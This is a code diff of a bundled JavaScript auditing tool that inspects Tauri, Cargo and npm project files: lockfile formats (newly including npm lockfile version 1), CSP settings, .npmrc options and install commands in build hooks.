   const message = `The feature ${code("custom-protocol")} doesn't lead to ${code("tauri/custom-protocol")}: releases load their pages from the server of development. Let it.`;
@@ -17596,12 +17654,12 @@ function programGaps({ manifest: manifest2 }) {
   const defaultRun = pick(manifest2, "package", "default-run");
   const main = asString(defaultRun) ?? name;
   const programs2 = itemsOf(member(manifest2, "bin")).map(programOf2);
-  const named9 = programs2.find((program) => program.name === main);
-  const path = plainPath(named9?.path) ?? (main === name ? USUAL_PROGRAM : `src/bin/${main}.rs`);
+  const named10 = programs2.find((program) => program.name === main);
+  const path = plainPath(named10?.path) ?? (main === name ? USUAL_PROGRAM : `src/bin/${main}.rs`);
   const library = pick(manifest2, "lib", "path");
   const libraryPath = plainPath(asString(library)) ?? USUAL_LIBRARY;
   const isUsual = path === USUAL_PROGRAM && libraryPath === USUAL_LIBRARY && programs2.length < 2;
-  const at2 = (path === USUAL_PROGRAM ? library?.at : defaultRun?.at) ?? (named9 ?? programs2[0])?.at;
+  const at2 = (path === USUAL_PROGRAM ? library?.at : defaultRun?.at) ?? (named10 ?? programs2[0])?.at;
   if (isUsual || at2 === void 0) return [];
   const conditions = programs2.map(({ name: name2, required }) => wordsOf(name2, required)).sort();
   const isConditional = programs2.some(({ required }) => required.length > 0);
@@ -17628,23 +17686,23 @@ function plainPath(path) {
 function settingGaps(project) {
   const { settings: settings2 } = cargoWorkspace(project.location.root, project.files);
   return settings2.flatMap((config) => {
-    const replacing = replacingIn(config).map((setting10) => replacingGap(setting10, project));
+    const replacing = replacingIn(config).map((setting12) => replacingGap(setting12, project));
     return replacing.length > 0 || !isIncluded(config) ? replacing : includedGap(config);
   });
 }
 function programsOfSettings({ location, files }) {
   const { settings: settings2 } = cargoWorkspace(location.root, files);
-  const named9 = settings2.flatMap(replacingIn).flatMap(({ value }) => placesOf(value));
+  const named10 = settings2.flatMap(replacingIn).flatMap(({ value }) => placesOf(value));
   const flags = PLATFORMS.flatMap((platform) => rustFlags(location.root, files, platform));
   const ofFlags = flags.filter((flag) => !isHarmlessFlag(flag));
-  return /* @__PURE__ */ new Set([...named9, ...ofFlags.flatMap((flag) => pathsOfFlag(flag, location.root))]);
+  return /* @__PURE__ */ new Set([...named10, ...ofFlags.flatMap((flag) => pathsOfFlag(flag, location.root))]);
 }
 var OF_BUILD = ["rustc", "rustc-wrapper", "rustc-workspace-wrapper"];
 var OF_TARGET = ["linker", "runner"];
 var OF_SOURCES = ["paths", "source", "registry", "registries", "credential-alias"];
 var NAMES_PROGRAM = /^(?:(?:TARGET_|HOST_)?(?:CC|CXX|AR|LD|RANLIB|NVCC)(?:_.*)?|CMAKE.*|MAKE|PERL|PYTHON.*|PKG_CONFIG.*|PROTOC|LLVM_CONFIG_PATH|LIBCLANG_PATH|CARGO.*|RUSTC.*|RUSTUP_.*|RUSTFLAGS|PATH|PATHEXT|COMSPEC|SHELL|LD_.*|DYLD_.*|NODE.*|GIT_.*)$/i;
 function replacingIn(config) {
-  const of2 = (owner, prefix, names2) => names2.flatMap((name) => {
+  const of2 = (owner, prefix, names3) => names3.flatMap((name) => {
     const value = member(owner, name);
     return value === void 0 ? [] : [{ name: `${prefix}${name}`, value }];
   });
@@ -17674,8 +17732,8 @@ function replacingGap({ name, value }, { contents }) {
 function placesOf(value) {
   const folder = folderOf(folderOf(value.at.path));
   return [value, member(value, "value"), ...itemsOf(value)].flatMap((each) => {
-    const text2 = asString(each)?.split(" ")[0];
-    return text2 === void 0 || text2 === "" ? [] : joined(folder, text2) ?? [];
+    const text3 = asString(each)?.split(" ")[0];
+    return text3 === void 0 || text3 === "" ? [] : joined(folder, text3) ?? [];
   });
 }
 function isIncluded({ at: { path } }) {
@@ -17703,9 +17761,9 @@ var cargoManifest = {
   layered: false,
   files: FILES2,
   follows(project) {
-    const named9 = new Set(oddlyNamed(project).map(({ path }) => path));
+    const named10 = new Set(oddlyNamed(project).map(({ path }) => path));
     const programs2 = programsOfSettings(project);
-    return (path) => named9.has(path) || programs2.has(path);
+    return (path) => named10.has(path) || programs2.has(path);
   },
   read(project) {
     const { location, files } = project;
@@ -17733,18 +17791,17 @@ function besideLock({ location, files, contents }, workspace, patches) {
   if (lock?.version === 0 || lock === void 0 && isLost) return { grants: [], gaps: [] };
   const needs = lockedNeeds(workspace, files);
   if (lock === void 0) return { grants: unpinnedCrates(needs), gaps: [] };
-  const gaps = [
-    ...unlockedDependencies([...needs, ...needsBeside(workspace, files)], patches, lock),
-    ...unlockedPatches(patches, lock),
-    ...unfoundedEntries(patches, lock)
-  ];
-  return { grants: [], gaps };
+  const { grants, gaps } = unlockedDependencies([...needs, ...needsBeside(workspace, files)], patches, lock);
+  return {
+    grants,
+    gaps: [...gaps, ...unlockedPatches(patches, lock), ...unfoundedEntries(patches, lock)]
+  };
 }
 
 // src/tauri/remote-url.ts
-function asUrl(text2) {
-  if (!URL.canParse(text2)) return void 0;
-  const url = new URL(text2);
+function asUrl(text3) {
+  if (!URL.canParse(text3)) return void 0;
+  const url = new URL(text3);
   return /^[a-z]:$/.test(url.protocol) ? void 0 : url;
 }
 function originOf(url) {
@@ -17883,14 +17940,14 @@ function fromString(csp2) {
   const places2 = placesIn2(csp2);
   let offset = 0;
   for (const part of csp2.value.split(";")) {
-    const text2 = part.trim();
-    const at2 = places2(offset + part.indexOf(text2), text2.length);
+    const text3 = part.trim();
+    const at2 = places2(offset + part.indexOf(text3), text3.length);
     offset += part.length + 1;
-    if (text2 === "") continue;
-    const space = text2.indexOf(" ");
+    if (text3 === "") continue;
+    const space = text3.indexOf(" ");
     result2.push({
-      key: space < 0 ? text2 : text2.slice(0, space),
-      text: space < 0 ? "" : text2.slice(space + 1),
+      key: space < 0 ? text3 : text3.slice(0, space),
+      text: space < 0 ? "" : text3.slice(space + 1),
       at: at2
     });
   }
@@ -17960,7 +18017,7 @@ var CSP_CLASSES = [
 // src/readers/csp/effective.ts
 var MOST_ORDERS = 8;
 function effectivePolicy(directives, settings2, hasStyle) {
-  const lists = new Map(directives.map(({ key, text: text2 }) => [key, text2]));
+  const lists = new Map(directives.map(({ key, text: text3 }) => [key, text3]));
   const written6 = [...lists].flat().join(" ");
   if (written6.length > CSP_LIMITS.characters) return { headers: [written6], own: [], complete: true };
   const own = [];
@@ -17992,7 +18049,7 @@ function effectivePolicy(directives, settings2, hasStyle) {
       "default-src",
       ours((unique) => `isolation-tauri${unique}://localhost`)
     );
-  const entries = [...lists].map(([key, text2]) => `${key} ${text2}`.trimEnd());
+  const entries = [...lists].map(([key, text3]) => `${key} ${text3}`.trimEnd());
   const orders = ordersOf(entries);
   return { headers: orders.slice(0, MOST_ORDERS), own, complete: orders.length <= MOST_ORDERS };
 }
@@ -18053,19 +18110,19 @@ function originOf2(server) {
 }
 
 // src/tauri/config-place.ts
-function placeOfKey(config, ...names2) {
+function placeOfKey(config, ...names3) {
   let nearest3 = config;
-  for (const name of names2) {
+  for (const name of names3) {
     const next2 = configKey(nearest3, name);
     if (next2 === void 0) return placeOfLoss(nearest3, name) ?? nearest3.at;
     nearest3 = next2;
   }
   return nearest3.at;
 }
-function placesBeside(config, ...names2) {
+function placesBeside(config, ...names3) {
   const found9 = [];
   let nearest3 = config;
-  for (const name of [...names2, ""]) {
+  for (const name of [...names3, ""]) {
     if (nearest3?.kind !== "object") break;
     found9.push(...nearest3.beside ?? []);
     nearest3 = configKey(nearest3, name);
@@ -18102,8 +18159,8 @@ function cspSettings(config, major) {
 }
 function untouchedIn(value) {
   const all = asBoolean(value) === true;
-  const named9 = stringsOf(value).map((item) => item.value);
-  return { script: all || named9.includes("script-src"), style: all || named9.includes("style-src") };
+  const named10 = stringsOf(value).map((item) => item.value);
+  return { script: all || named10.includes("script-src"), style: all || named10.includes("style-src") };
 }
 function secureByDefault(security) {
   return asBoolean(configKey(security, "dangerousUseHttpScheme")) !== true;
@@ -18166,8 +18223,8 @@ var csp = {
   layered: true,
   files: FILES3,
   follows: (project) => {
-    const named9 = new Set(PLATFORMS.flatMap((platform) => pagesNamed(project, platform)));
-    return (path) => named9.has(path);
+    const named10 = new Set(PLATFORMS.flatMap((platform) => pagesNamed(project, platform)));
+    return (path) => named10.has(path);
   },
   read(project) {
     const readings = PLATFORMS.map((platform) => readPlatform(project, platform));
@@ -18208,14 +18265,14 @@ function readPage2(platform, settings2, page, seen) {
   const grants = headers.flatMap((sent) => {
     const policies = [...sent === null ? [] : [sent], ...page.policies];
     const header = policies.length === 0 ? null : policies.join(", ");
-    const missing = header === null ? absence : null;
+    const missing2 = header === null ? absence : null;
     return origins.map(
       (origin) => ({
         domain: "csp",
         ...origin,
         page,
         header,
-        absence: missing,
+        absence: missing2,
         own,
         places: places2,
         beside: settings2.beside
@@ -18248,11 +18305,11 @@ function sentByTauri(settings2, directives, page) {
   if (settings2.csp === void 0) return nothingSent("not-configured");
   const hasStyle = page?.marks.hasStyle ?? false;
   const { headers, own, complete } = effectivePolicy(directives, settings2, hasStyle);
-  const text2 = headers.join("");
-  if (/[^\0-\x7f]/.test(text2)) return nothingSent("not-ascii");
+  const text3 = headers.join("");
+  if (/[^\0-\x7f]/.test(text3)) return nothingSent("not-ascii");
   const at2 = settings2.at;
-  if (/[^\t -~]/.test(text2)) return { headers: [], own: [], absence: null, gaps: [pagesFail(at2, text2)] };
-  return { headers, own, absence: null, gaps: complete ? [] : [tooManyOrders(at2, text2)] };
+  if (/[^\t -~]/.test(text3)) return { headers: [], own: [], absence: null, gaps: [pagesFail(at2, text3)] };
+  return { headers, own, absence: null, gaps: complete ? [] : [tooManyOrders(at2, text3)] };
 }
 function nothingSent(absence) {
   return { headers: [null], own: [], absence, gaps: [] };
@@ -18308,22 +18365,23 @@ function onlyInPage({ path, policies }) {
 // src/formats/npm-source.ts
 var import_valid = __toESM(require_valid(), 1);
 var NPM_REGISTRY = "https://registry.npmjs.org";
+var YARN_ALIAS = "https://registry.yarnpkg.com";
 function npmSource({ name, version, resolved: resolved3, local }) {
   if (local) return THIS_REPOSITORY;
   if (resolved3 === void 0 || resolved3 === "") return OWN_REGISTRY;
   if (/^file:/.test(resolved3)) return { kind: "tarball", url: resolved3 };
   if (/^git(?:\+(?:ssh|https?|file))?:\/\//.test(resolved3)) return repositoryOf(resolved3);
   const registry = registryOf(resolved3, name, version);
-  if (registry === NPM_REGISTRY) return OWN_REGISTRY;
+  if (registry === NPM_REGISTRY || registry === YARN_ALIAS) return OWN_REGISTRY;
   return registry === void 0 ? { kind: "tarball", url: canonicalUrl2(resolved3) } : { kind: "registry", url: registry };
 }
 var LONGEST_VERSION = 256;
-function isVersion(text2) {
-  return text2.length <= LONGEST_VERSION && (0, import_valid.default)(text2) === text2.replace(/\+.*$/s, "");
+function isVersion(text3) {
+  return text3.length <= LONGEST_VERSION && (0, import_valid.default)(text3) === text3.replace(/\+.*$/s, "");
 }
 var NAME3 = /^(?:@[a-z0-9~_.!*'()-]+\/)?[a-z0-9~_.!*'()-]+$/i;
-function isPackageName(text2) {
-  return NAME3.test(text2) && !text2.split("/").some((part) => /^\.+$/.test(part));
+function isPackageName(text3) {
+  return NAME3.test(text3) && !text3.split("/").some((part) => /^\.+$/.test(part));
 }
 function registryOf(resolved3, name, version) {
   if (!isPackageName(name) || !isVersion(version) || !URL.canParse(resolved3)) return void 0;
@@ -18364,8 +18422,8 @@ var READ = new Map([
   ["bin", { is: (value) => TEXT.is(value) || isTexts(value), words: "a table of commands" }]
 ]);
 var PART = /^sha(?:1|256|384|512)-[A-Za-z0-9+/]+={0,2}(?:\?[\x21-\x7e]*)?$/;
-function isIntegrity(text2) {
-  return text2.length <= LONGEST3 && text2.split(/\s+/).every((part) => PART.test(part));
+function isIntegrity(text3) {
+  return text3.length <= LONGEST3 && text3.split(/\s+/).every((part) => PART.test(part));
 }
 var LONGEST3 = 1e4;
 function isTexts(value) {
@@ -18415,8 +18473,8 @@ function differsFromLegacy(packages, dependencies) {
   return heldIn(packages, dependencies).flatMap(({ holder, name, entry: { key, value } }) => {
     const [version, integrity] = ["version", "integrity"].map((field2) => asString(member(value, field2)));
     const other = packages.get(`${holder}node_modules/${name}`);
-    const isSame7 = (version === other?.version || !isVersion(version ?? "")) && integrity === (other?.integrity ?? void 0);
-    if (other === void 0 || other.target !== null || isSame7) return [];
+    const isSame8 = (version === other?.version || !isVersion(version ?? "")) && integrity === (other?.integrity ?? void 0);
+    if (other === void 0 || other.target !== null || isSame8) return [];
     const message = `${code(name)} stands here with another version or hash than under \`packages\`, and npm 6 takes this one. Let npm write the lockfile anew.`;
     const rests = wordsOf("npm 6", name, version, integrity, other.version, other.integrity);
     return [gapAt(key, { kind: "not-followed", rests, message })];
@@ -18436,6 +18494,141 @@ function entriesOf3(holder, table2) {
   return [...table2.entries].map(([name, entry]) => ({ holder, name, entry }));
 }
 
+// src/formats/npm-lock-v1.ts
+function tableOfTree(lock) {
+  const gaps = [];
+  const entries = /* @__PURE__ */ new Map();
+  const queue = heldIn2("", lock);
+  for (const held2 of queue) {
+    const location = `${held2.holder}node_modules/${held2.name}`;
+    if (location.length > LONGEST4) gaps.push(tooLong(held2));
+    if (location.length > LONGEST4 || entries.size > MOST_PACKAGES) continue;
+    const { entry, folder } = translated(held2);
+    entries.set(location, entry);
+    if (folder !== null && !entries.has(folder)) entries.set(folder, folderEntry(held2));
+    for (const gap3 of oddFields(location, held2)) gaps.push(gap3);
+    for (const each of heldIn2(`${folder ?? location}/`, held2.entry.value)) queue.push(each);
+  }
+  const root = objectOf(lock, { name: member(lock, "name"), dependencies: topsOf(lock, queue) });
+  return { table: { ...lock, entries: new Map([["", { key: lock.at, value: root }], ...entries]) }, gaps };
+}
+var LONGEST4 = 2e3;
+function tooLong({ name, entry: { key, value } }) {
+  const message = `An entry of the tree lies deeper than npm would nest it and was not compared: ${code(name)}.`;
+  return gapAt(key, { kind: "truncated", rests: wordsOf("npm entry", name, plain(value)), message });
+}
+function heldIn2(holder, value) {
+  const table2 = member(value, "dependencies");
+  if (table2?.kind !== "object") return [];
+  return [...table2.entries].map(([name, entry]) => ({ holder, name, entry }));
+}
+function translated({ entry: { key, value } }) {
+  if (value.kind !== "object") return { entry: { key, value }, folder: null };
+  const folder = linkedFolder(asString(member(value, "version")) ?? "");
+  if (folder !== null) {
+    const link2 = { kind: "boolean", value: true, at: key };
+    return { entry: { key, value: objectOf(value, { resolved: textAt(value, folder), link: link2 }) }, folder };
+  }
+  const marks = ["integrity", "dev", "optional"].map((name) => [name, member(value, name)]);
+  const fields2 = {
+    ...whatAndWhere(value),
+    ...Object.fromEntries(marks),
+    dependencies: requiresOf(value),
+    bundleDependencies: bundlesOf(value)
+  };
+  return { entry: { key, value: objectOf(value, fields2) }, folder: null };
+}
+function folderEntry({ entry: { key, value } }) {
+  return { key, value: objectOf(value, { dependencies: requiresOf(value) }) };
+}
+function objectOf({ at: at2 }, fields2) {
+  const given2 = Object.entries(fields2).flatMap(
+    ([name, value]) => value === void 0 ? [] : [[name, { key: value.at, value }]]
+  );
+  return { kind: "object", entries: new Map(given2), at: at2 };
+}
+function textAt(entry, value) {
+  return { kind: "string", value, at: (member(entry, "version") ?? entry).at };
+}
+function whatAndWhere(entry) {
+  const [version, resolved3] = [member(entry, "version"), member(entry, "resolved")];
+  const text3 = asString(version) ?? "";
+  const [, real, aliased] = /^npm:(@?[^@]+)@(.+)$/s.exec(text3) ?? [];
+  if (real !== void 0 && aliased !== void 0)
+    return { name: textAt(entry, real), version: textAt(entry, aliased), resolved: resolved3 };
+  const address = addressIn(text3);
+  if (address === void 0) return { version: version ?? textAt(entry, ""), resolved: resolved3 };
+  const told = versionIn2(address);
+  return { version: told === void 0 ? void 0 : textAt(entry, told), resolved: textAt(entry, address) };
+}
+var HOSTS = /* @__PURE__ */ new Map([
+  ["github", "github.com"],
+  ["gitlab", "gitlab.com"],
+  ["bitbucket", "bitbucket.org"]
+]);
+function addressIn(text3) {
+  const [, host = "", rest2 = ""] = /^(github|gitlab|bitbucket):(.+)$/s.exec(text3) ?? [];
+  if (rest2 !== "") return `git+https://${HOSTS.get(host)}/${rest2}`;
+  return /^(?:https?:|file:|git(?:\+(?:ssh|https?|file))?:)/.test(text3) ? text3 : void 0;
+}
+function versionIn2(address) {
+  const [, name = "", version = ""] = /\/([^/]+)\/-\/(.+)\.tgz$/s.exec(address) ?? [];
+  const told = version.startsWith(`${name}-`) ? version.slice(name.length + 1) : "";
+  return isVersion(told) ? told : void 0;
+}
+function linkedFolder(version) {
+  const isFolder = version.startsWith("file:") && !/\.(?:tgz|tar\.gz|tar)$/i.test(version);
+  return isFolder ? version.slice("file:".length) : null;
+}
+function requiresOf(entry) {
+  const requires = member(entry, "requires");
+  return requires?.kind === "boolean" ? void 0 : requires;
+}
+function bundlesOf(entry) {
+  const isBundled = (each) => asBoolean(member(each.entry.value, "bundled")) === true;
+  const items = heldIn2("", entry).filter(isBundled);
+  const names3 = items.map(({ name, entry: { key } }) => ({ kind: "string", value: name, at: key }));
+  return names3.length === 0 ? void 0 : { kind: "array", items: names3, at: entry.at };
+}
+function topsOf(lock, all) {
+  const needed = new Set(
+    all.flatMap(({ entry }) => {
+      const requires = requiresOf(entry.value);
+      return requires?.kind === "object" ? [...requires.entries.keys()] : [];
+    })
+  );
+  const tops = heldIn2("", lock).filter(({ name }) => !needed.has(name));
+  const anything2 = ({ name, entry: { key } }) => [
+    name,
+    { key, value: { kind: "string", value: "*", at: key } }
+  ];
+  return { kind: "object", entries: new Map(tops.map(anything2)), at: lock.at };
+}
+var KNOWN_FIELDS = /* @__PURE__ */ new Set([
+  ...["version", "resolved", "integrity", "bundled", "requires", "dependencies"],
+  // These change nothing of what npm 6 to 12 fetch or run.
+  ...["dev", "optional", "peer", "devOptional", "extraneous", "from", "deprecated"]
+]);
+function oddFields(location, { name, entry: { value } }) {
+  if (value.kind !== "object") return [];
+  const odd = [...value.entries].filter(
+    ([field2, entry]) => !KNOWN_FIELDS.has(field2) || !isShaped(field2, entry.value)
+  );
+  return odd.map(([field2, { key: at2 }]) => {
+    const message = `${code(field2)} of the entry ${code(location)} isn't read, and npm may run or fetch what it says. Take it out, or let npm write the lockfile anew.`;
+    return gapAt(at2, {
+      kind: "not-followed",
+      rests: wordsOf("npm entry", name, field2, plain(value)),
+      message
+    });
+  });
+}
+function isShaped(field2, { kind }) {
+  if (field2 === "bundled") return kind === "boolean";
+  if (field2 === "requires") return kind === "boolean" || kind === "object";
+  return field2 !== "dependencies" || kind === "object";
+}
+
 // src/formats/npm-requirements.ts
 var TABLES3 = [
   ["peerDependencies", "peer"],
@@ -18444,23 +18637,23 @@ var TABLES3 = [
   ["devDependencies", "needed"]
 ];
 function requirementsOf(manifest2, installed) {
-  const asked2 = /* @__PURE__ */ new Map();
+  const asked3 = /* @__PURE__ */ new Map();
   for (const [table2, kind] of TABLES3) {
     const dependencies = member(manifest2, table2);
     if (installed && table2 === "devDependencies" || dependencies === void 0) continue;
     if (dependencies.kind !== "object") {
-      const text2 = JSON.stringify(plain(dependencies));
-      if (/[^\s"[\]]/.test(text2)) asked2.set(table2, { name: table2, text: text2, kind, at: dependencies.at });
+      const text3 = JSON.stringify(plain(dependencies));
+      if (/[^\s"[\]]/.test(text3)) asked3.set(table2, { name: table2, text: text3, kind, at: dependencies.at });
       continue;
     }
     for (const [name, { value }] of dependencies.entries) {
       const isOptional = kind === "peer" && asBoolean(pick(manifest2, "peerDependenciesMeta", name, "optional")) === true;
       const asks = isOptional ? "optional peer" : kind;
-      const text2 = asString(value) ?? "";
-      asked2.set(name, { name, text: text2, kind: asks, at: value.at });
+      const text3 = asString(value) ?? "";
+      asked3.set(name, { name, text: text3, kind: asks, at: value.at });
     }
   }
-  return [...asked2.values()];
+  return [...asked3.values()];
 }
 
 // src/formats/npm-package.ts
@@ -18489,7 +18682,7 @@ function packageAt(location, { key, value }) {
     scope: { isDev: isMarked("dev", "devOptional"), isOptional: isMarked("optional", "devOptional") },
     target: link2 ? asString(resolved3) ?? "" : null,
     requirements: requirementsOf(value, isInstalled(location)),
-    bundles: bundlesOf(member(value, "bundleDependencies")),
+    bundles: bundlesOf2(member(value, "bundleDependencies")),
     declared: declaredIn(value),
     at: key,
     lines: {
@@ -18499,7 +18692,7 @@ function packageAt(location, { key, value }) {
     }
   };
 }
-function bundlesOf(value) {
+function bundlesOf2(value) {
   return asBoolean(value) === true ? "all" : stringsOf(value).map((each) => each.value);
 }
 var DECLARED = [
@@ -18573,7 +18766,7 @@ function isBundledBy({ bundles, requirements }, { location }) {
 }
 
 // src/formats/npm-lock.ts
-var [OLDEST, NEWEST2] = [2, 4];
+var [OLDEST, NEWEST2] = [1, 4];
 var DEEPEST2 = 128;
 var KNOWN_KEYS = /* @__PURE__ */ new Set(["name", "version", "lockfileVersion", "requires", "packages", "dependencies"]);
 function readNpmLock(file2) {
@@ -18583,14 +18776,15 @@ function readNpmLock(file2) {
     return empty(file2.path, 0, [gapAt(parsed7.at, { kind: "unparsed", rests: contentOf(file2), message })]);
   }
   const [number, table2] = [member(parsed7.value, "lockfileVersion"), member(parsed7.value, "packages")];
-  if (isLegacy(number, table2)) return empty(file2.path, 1, []);
-  const version = number?.kind === "number" ? number.value : 0;
+  const tree = isLegacy(number, table2) ? treeIn(parsed7.value) : void 0;
+  const version = tree === void 0 ? number?.kind === "number" ? number.value : 0 : 1;
   const unread4 = (kind, message) => empty(file2.path, version, [gapIn(file2.path, { kind, rests: contentOf(file2), message })]);
-  if (![2, 3, 4].includes(version) || table2?.kind !== "object") {
+  const entries = tree?.table ?? table2;
+  if (tree === void 0 && ![2, 3, 4].includes(version) || entries?.kind !== "object") {
     const shape = `${code(file2.path)} has a shape that no known npm writes.`;
     return unread4("unsupported", `${shape} Formats ${OLDEST} to ${NEWEST2} are read.`);
   }
-  if (table2.entries.size > MOST_PACKAGES) {
+  if (entries.entries.size > MOST_PACKAGES) {
     const count = `${code(file2.path)} names more than ${MOST_PACKAGES} packages; none of them was compared.`;
     return unread4("truncated", count);
   }
@@ -18598,14 +18792,19 @@ function readNpmLock(file2) {
     const message = `${code(name)} stands twice in one object of ${code(file2.path)}; readers differ in which one counts.`;
     return gapAt(at2, { kind: "dynamic", rests: contentOf(file2), message });
   });
-  const { packages, gaps } = packagesIn(table2);
+  const { packages, gaps } = packagesIn(entries);
+  const odd = [...duplicates2, ...unknownKeys(parsed7.value), ...gaps];
+  if (tree !== void 0)
+    return { path: file2.path, version, packages: undeclared(packages), gaps: [...odd, ...tree.gaps] };
   const legacy = member(parsed7.value, "dependencies");
-  return {
-    path: file2.path,
-    version,
-    packages,
-    gaps: [...duplicates2, ...unknownKeys(parsed7.value), ...gaps, ...differsFromLegacy(packages, legacy)]
-  };
+  return { path: file2.path, version, packages, gaps: [...odd, ...differsFromLegacy(packages, legacy)] };
+}
+function treeIn(lock) {
+  const dependencies = member(lock, "dependencies") ?? lock;
+  return lock.kind === "object" && dependencies.kind === "object" ? tableOfTree(lock) : void 0;
+}
+function undeclared(packages) {
+  return new Map([...packages].map(([location, each]) => [location, { ...each, declared: null }]));
 }
 function isLegacy(version, packages) {
   if (packages !== void 0) return false;
@@ -18635,12 +18834,13 @@ function packagesIn(table2) {
     } else gaps.push(gapAt(entry.key, { rests: wordsOf(location, plain(entry.value)), ...fault }));
   }
   for (const each of bundledIn(packages)) {
-    if (isOwnRegistry(each.source) && each.integrity === null)
-      packages.set(each.location, { ...each, source: BUNDLED });
+    const hasAddress = each.lines.source !== each.at;
+    if (isOwnRegistry(each.source) && (each.integrity === null || !hasAddress))
+      packages.set(each.location, { ...each, source: BUNDLED, integrity: null });
   }
   return { packages, gaps };
 }
-function faultOf(location, known6) {
+function faultOf(location, known7) {
   const parts = location.split("/", DEEPEST2 + 1);
   if (parts.length > DEEPEST2) {
     const message2 = `${code(location)} lies deeper than npm would nest it and was not compared.`;
@@ -18649,7 +18849,7 @@ function faultOf(location, known6) {
   const climbs = parts.findIndex((part) => part !== "..");
   const inside = climbs < 0 ? [""] : parts.slice(climbs);
   const isPlain = location === "" || inside.every((part) => part !== "" && part !== "." && part !== "..");
-  if (isPlain && !location.includes("\\") && !known6.has(location.toLowerCase())) return void 0;
+  if (isPlain && !location.includes("\\") && !known7.has(location.toLowerCase())) return void 0;
   const message = `${code(location)} is another spelling of a folder, so it isn't known which entry npm takes. Let npm write the lockfile anew.`;
   return { kind: "not-followed", message };
 }
@@ -18673,12 +18873,12 @@ function hooksOf(project) {
   const configs = [...PLATFORMS.map(config), ...configsIn(project)];
   const hooks = configs.flatMap((each) => HOOKS.flatMap((name) => pick(each, "build", name) ?? []));
   return [...new Set(hooks)].flatMap((hook) => {
-    const text2 = commandIn(hook);
-    if (text2 === void 0) return [];
+    const text3 = commandIn(hook);
+    if (text3 === void 0) return [];
     const cwd = asString(member(hook, "cwd"));
     const folders = cwd === void 0 ? frontendFolders(project) : [joined(location.root, cwd)];
     const start = { folders: folders.filter((folder) => folder !== null), variables: /* @__PURE__ */ new Map(), args: [[]] };
-    return [{ script: scriptAt(text2.value, "posix", text2.at), start }];
+    return [{ script: scriptAt(text3.value, "posix", text3.at), start }];
   });
 }
 function configsIn({ files }) {
@@ -18689,11 +18889,14 @@ function configsIn({ files }) {
   });
 }
 function commandIn(hook) {
-  const text2 = hook.kind === "string" ? hook : member(hook, "script");
-  return text2?.kind === "string" ? text2 : void 0;
+  const text3 = hook.kind === "string" ? hook : member(hook, "script");
+  return text3?.kind === "string" ? text3 : void 0;
 }
 
-// src/readers/npm-lock/npm-settings.ts
+// src/domain/manager.ts
+var INSTALLERS = ["npm", "pnpm", "yarn", "bun"];
+
+// src/readers/npm-lock/settings/npmrc-settings.ts
 var HARMLESS4 = new Set(
   [
     // What is printed, published, written into manifests, or asked of people.
@@ -18807,13 +19010,30 @@ function effectOfFlag(name, value) {
   if (TIGHTENING.has(name)) return effect === "less" ? "less" : "more";
   return effect;
 }
+var SOURCES3 = new Set(
+  "registry replace-registry-host proxy https-proxy http-proxy noproxy ca cafile cert key".split(" ")
+);
+var CODE2 = new Set(
+  "git script-shell shell node-gyp node-options pnpmfile global-pnpmfile extension-file userconfig globalconfig".split(
+    " "
+  )
+);
+function decidedBy(name) {
+  if (LOOSENING.has(name)) return "approval";
+  if (TIGHTENING.has(name)) return "guard";
+  if (SOURCES3.has(name) || name.endsWith(":registry")) return "source";
+  return CODE2.has(name) ? "code" : "unknown";
+}
+function writtenValue(npmrc, name) {
+  const setting12 = npmrc.find((each) => each.name === name);
+  return setting12?.isList ? `[${setting12.values}]` : setting12?.values[0];
+}
 
 // src/readers/npm-lock/install-commands.ts
 var MANAGERS2 = /^(?:.*[\\/])?(?:npm|pnpm|yarn|yarnpkg|bun)(?:\.(?:cmd|exe))?(?:@[\w.^~-]+)?$/;
-var ANY_MANAGER = ["npm", "pnpm", "yarn", "bun"];
 function managersIn(word2) {
-  const known6 = ANY_MANAGER.filter((name) => new Set(word2.match(/pnpm|npm|yarn|bun/g)).has(name));
-  return known6.length > 0 && isKnown(word2) ? known6 : ANY_MANAGER;
+  const known7 = INSTALLERS.filter((name) => new Set(word2.match(/pnpm|npm|yarn|bun/g)).has(name));
+  return known7.length > 0 && isKnown(word2) ? known7 : INSTALLERS;
 }
 var NAMES_FOLDER3 = /* @__PURE__ */ new Set(["prefix", "C", "dir", "cwd"]);
 var INSTALLS = new Set(
@@ -18858,15 +19078,24 @@ function packagesAdded([first = "", ...others], ran) {
     const written6 = [first, ...others].join(" ");
     return [inCommand("update", written6, written6, "other", ran)];
   }
-  const named9 = ADDS.has(first) ? others.filter((word2) => word2 !== ".") : [];
-  return named9.map((word2) => inCommand("install", word2, `${first} ${word2}`, "other", ran));
+  const named10 = ADDS.has(first) ? others.filter((word2) => word2 !== ".") : [];
+  return named10.map((word2) => inCommand("install", word2, `${first} ${word2}`, "other", ran));
 }
 var ADDS = new Set(
   "install i in ins inst insta instal isnt isnta isntal isntall add install-test it".split(" ")
 );
 var UPDATES = /* @__PURE__ */ new Set(["update", "up", "upgrade", "udpate"]);
 function inCommand(name, value, written6, effect, ran) {
-  return { name, value, written: written6, from: "command", effect, of: null, at: placeOf2(ran) };
+  return {
+    name,
+    value,
+    written: written6,
+    from: "command",
+    effect,
+    decides: decidedBy(name),
+    of: null,
+    at: placeOf2(ran)
+  };
 }
 function mayBeManager(word2, next2, { words: [first = ""] }) {
   const isLoop2 = next2 === "in" && /^for$/i.test(first);
@@ -18955,11 +19184,11 @@ function shown(value) {
   return isKnown(value) ? value : "…";
 }
 function foldersOf2({ folders }, flags) {
-  const named9 = flags.find(({ name }) => NAMES_FOLDER3.has(name))?.value;
-  if (named9 === void 0 || folders === null) return folders;
-  if (named9 === "…") return null;
-  const below6 = resolved("", named9);
-  return folders.flatMap((folder) => folder === below6 ? folder : resolved(folder, named9) ?? []);
+  const named10 = flags.find(({ name }) => NAMES_FOLDER3.has(name))?.value;
+  if (named10 === void 0 || folders === null) return folders;
+  if (named10 === "…") return null;
+  const below6 = resolved("", named10);
+  return folders.flatMap((folder) => folder === below6 ? folder : resolved(folder, named10) ?? []);
 }
 function environmentOf2({ variables }) {
   return [...variables].flatMap(
@@ -18967,8 +19196,8 @@ function environmentOf2({ variables }) {
   );
 }
 var VARIABLE3 = /^npm_config_([^=]+)=(.*)$/is;
-function flagOfVariable(text2) {
-  const [, name, value = ""] = VARIABLE3.exec(text2) ?? [];
+function flagOfVariable(text3) {
+  const [, name, value = ""] = VARIABLE3.exec(text3) ?? [];
   return name === void 0 ? void 0 : { name: name.toLowerCase().replaceAll("_", "-"), value };
 }
 
@@ -18979,7 +19208,7 @@ function workflowsOfApp({ files }, runs2) {
     runs2.flatMap(({ maker: maker2, commands: commands2 }) => commands2.some(namesTauri) ? [maker2.at.path] : [])
